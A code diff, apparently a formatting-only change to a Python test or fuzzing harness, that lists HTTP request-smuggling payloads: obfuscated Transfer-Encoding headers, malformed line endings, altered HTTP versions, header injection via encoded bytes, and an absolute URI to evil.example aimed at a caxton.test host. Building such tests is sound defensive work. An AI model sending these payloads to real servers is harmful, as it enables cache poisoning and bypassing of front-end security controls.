@@ -74,7 +74,7 @@ ENCODINGS = [
     b"Transfer-Encoding:\r\n chunked",
     b"Transfer-Encoding: \x0bchunked",
     b"Transfer-Encoding: chunked\x00",
-    b"Transfer-Encoding: \"chunked\"",
+    b'Transfer-Encoding: "chunked"',
     b"Transfer_Encoding: chunked",
     b"Transfer-Encoding\x00: chunked",
     b"TRANSFER-ENCODING: CHUNKED",
@@ -127,12 +127,16 @@ def attacks(message_id: str) -> list[bytes]:
         b"HTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\nContent-Length: %d\r\n\r\n" % len(inner) + inner,
         b"GET /api/v1/ws HTTP/1.1\r\nHost: caxton.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
         b"Sec-WebSocket-Version: 777\r\nContent-Length: %d\r\n\r\n" % len(inner) + inner,
-        HEAD.replace(b"1.1", b"1.0") + b"Transfer-Encoding: chunked\r\nConnection: keep-alive\r\n\r\n" + chunked(inner),
+        HEAD.replace(b"1.1", b"1.0")
+        + b"Transfer-Encoding: chunked\r\nConnection: keep-alive\r\n\r\n"
+        + chunked(inner),
         HEAD.replace(b"1.1", b"1.2") + b"Content-Length: %d\r\n\r\n" % len(inner) + inner,
         HEAD.replace(b"\r\n", b"\n") + b"Content-Length: %d\n\n" % len(inner) + inner,
         HEAD.replace(b"\r\n", b"\r") + b"Content-Length: %d\r\r" % len(inner) + inner,
         HEAD.replace(b"/api", b"http://evil.example/api") + b"Content-Length: %d\r\n\r\n" % len(inner) + inner,
-        HEAD.replace(b" HTTP/1.1", b" HTTP/1.1\r\nX: y HTTP/1.1") + b"Content-Length: %d\r\n\r\n" % len(inner) + inner,
+        HEAD.replace(b" HTTP/1.1", b" HTTP/1.1\r\nX: y HTTP/1.1")
+        + b"Content-Length: %d\r\n\r\n" % len(inner)
+        + inner,
         HEAD.replace(b"messages", b"messages\xc4\x8d\xc4\x8aX:") + b"Content-Length: %d\r\n\r\n" % len(inner) + inner,
         HEAD + b"X: \x00\r\nContent-Length: %d\r\n\r\n" % len(inner) + inner,
         HEAD + b"X: a\rb\r\nContent-Length: %d\r\n\r\n" % len(inner) + inner,
